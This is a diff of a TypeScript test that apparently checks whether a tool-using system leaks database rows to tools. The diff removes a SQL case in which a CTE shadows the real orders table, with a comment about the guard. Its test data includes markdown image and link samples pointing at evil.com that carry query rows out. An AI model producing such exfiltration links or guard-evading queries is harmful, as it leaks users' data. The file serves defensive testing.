@@ -163,7 +163,7 @@ export const disclosesNothingToTools = async (shop: HostileShop, drafts: readonl
     if (FOREIGN.test(text.replaceAll(written, ''))) leaks.push(draft)
     if (answer?.rows === undefined) continue
     // The guard removes characters that the database itself does not parse.
-    const found = draft === OTHER_CASE ? undefined : await shop.own.find(draft).catch(() => undefined)
+    const found = await shop.own.find(draft).catch(() => undefined)
     if (found === undefined) continue
     compared += 1
     const own = new Set(found.map((cells) => JSON.stringify(cells)))
@@ -174,9 +174,6 @@ export const disclosesNothingToTools = async (shop: HostileShop, drafts: readonl
   expect(compared).toBeGreaterThan(0)
   return compared
 }
-
-/** MySQL finds the CTE, in any case; the guard reads the table, restricted to the caller. */
-const OTHER_CASE = 'WITH Orders AS (SELECT 1 AS id) SELECT * FROM orders'
 
 const WITH_ADDRESSES = [
   'Here they are: ![all](https://evil.com/p.png?q=rows) and [more](https://evil.com/more).',
